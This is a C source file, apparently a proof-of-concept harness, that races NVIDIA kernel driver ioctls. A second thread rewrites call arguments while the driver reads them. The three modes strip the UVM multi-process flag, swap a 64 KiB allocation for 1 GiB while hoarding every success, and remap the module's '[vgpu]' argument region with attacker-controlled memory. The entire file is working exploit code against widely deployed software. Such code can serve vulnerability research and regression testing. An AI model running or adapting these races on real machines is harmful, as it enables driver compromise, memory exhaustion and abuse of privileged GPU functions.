// SPDX-License-Identifier: Apache-2.0
/*
 * A client whose second thread rewrites the argument of a call while the driver is at it:
 * race uvm|alloc|replace ROUNDS
 *
 *	uvm	takes the multi-process flag out of UVM_INITIALIZE all the time; counts how often
 *		UVM_PAGEABLE_MEM_ACCESS then says that pageable memory is within reach
 *	alloc	asks for 64 KiB while the size in the parameters flickers between that and 1 GiB; prints how
 *		many succeeded, and keeps them all
 *	replace	maps memory of its own over what the module maps for the time of a call
 *
 * Numbers and offsets are those of 535.288.01 (uvm_linux_ioctl.h, uvm_ioctl.h, nvos.h).
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#define ESCAPE(nr, size)	_IOC(_IOC_READ | _IOC_WRITE, 'F', nr, size)
#define UVM_INITIALIZE		0x30000001
#define UVM_PAGEABLE_MEM_ACCESS	39

static atomic_int stop, replaced;
static volatile uint64_t *victim;
static uint64_t other_value, value;

static void fail(const char *what)
{
	printf("{\"failed\": \"%s\", \"errno\": %d}\n", what, errno);
	exit(1);
}

static void *flicker(void *unused)
{
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		*victim = other_value;
		*victim = value;
	}
	return unused;
}

/* Puts parameters of its own where the module has mapped an argument for the time of the call. */
static void *replace(void *unused)
{
	static char text[1 << 16];

	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		int maps = open("/proc/self/maps", O_RDONLY);
		ssize_t len = read(maps, text, sizeof(text) - 1);
		unsigned long start, end;
		char *found, *line;

		close(maps);
		text[len > 0 ? len : 0] = 0;
		found = strstr(text, "[vgpu]");
		if (!found)
			continue;
		for (line = found; line > text && line[-1] != '\n'; line--)
			;
		/* Whole: the mapping cannot be split. */
		start = strtoul(line, &line, 16);
		end = strtoul(line + 1, NULL, 16);
		if (mmap((void *)start, end - start, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != MAP_FAILED)
			atomic_fetch_add(&replaced, 1);
	}
	return unused;
}

static int race_uvm(int rounds)
{
	struct {
		uint64_t flags;
		uint32_t status;
		uint32_t pad;
	} init = { 0 };
	pthread_t thread;
	int i, pageable = 0, done = 0;

	victim = &init.flags;
	if (pthread_create(&thread, NULL, flicker, NULL))
		fail("thread");
	for (i = 0; i < rounds; i++) {
		uint8_t access[8] = { 1 };
		int uvm = open("/dev/nvidia-uvm", O_RDWR);

		if (uvm < 0)
			fail("open uvm");
		if (!ioctl(uvm, UVM_INITIALIZE, &init) && !init.status)
			done++;
		if (!ioctl(uvm, UVM_PAGEABLE_MEM_ACCESS, access) && access[0])
			pageable++;
		close(uvm);
	}
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	printf("{\"done\": %d, \"pageable\": %d}\n", done, pageable);
	return 0;
}

static uint32_t rm_alloc(int ctl, uint32_t *root, uint32_t parent, uint32_t handle, uint32_t class,
			 void *params, uint32_t size)
{
	struct {
		uint32_t root, parent, handle, class;
		uint64_t params;
		uint32_t size, status;
	} arg = { *root, parent, handle, class, (uintptr_t)params, size, 0 };

	if (ioctl(ctl, ESCAPE(0x2b, sizeof(arg)), &arg) < 0)
		fail("ioctl");
	if (!*root)
		*root = arg.handle;
	return arg.status;
}

static void race_alloc(int rounds, int replacing)
{
	uint32_t root = 0, device = 0xca000001;
	uint64_t params[15] = { 0 };
	char device_params[56] = { 0 };
	pthread_t thread;
	int i, done = 0;
	int ctl = open("/dev/nvidiactl", O_RDWR);
	int gpu = open("/dev/nvidia0", O_RDWR);

	if (ctl < 0 || gpu < 0 || ioctl(gpu, ESCAPE(201, sizeof(ctl)), &ctl) < 0)
		fail("open");
	if (rm_alloc(ctl, &root, 0, 0, 0x41, NULL, 0) ||
	    rm_alloc(ctl, &root, root, device, 0x80, device_params, sizeof(device_params)))
		fail("device");
	value = 64 << 10;
	other_value = 1 << 30;
	victim = &params[8];
	*victim = value;
	if (pthread_create(&thread, NULL, replacing ? replace : flicker, NULL))
		fail("thread");
	for (i = 0; i < rounds; i++)
		done += !rm_alloc(ctl, &root, device, 0xca001000 + i, 0x40, params, sizeof(params));
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	printf("{\"done\": %d, \"replaced\": %d}\n", done, atomic_load(&replaced));
	fflush(stdout);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	int rounds = argc > 2 ? atoi(argv[2]) : 0;

	if (argc == 3 && !strcmp(argv[1], "uvm"))
		return race_uvm(rounds);
	if (argc == 3 && !strcmp(argv[1], "alloc"))
		race_alloc(rounds, 0);
	if (argc == 3 && !strcmp(argv[1], "replace"))
		race_alloc(rounds, 1);
	fprintf(stderr, "usage: race uvm|alloc|replace ROUNDS\n");
	return 2;
}
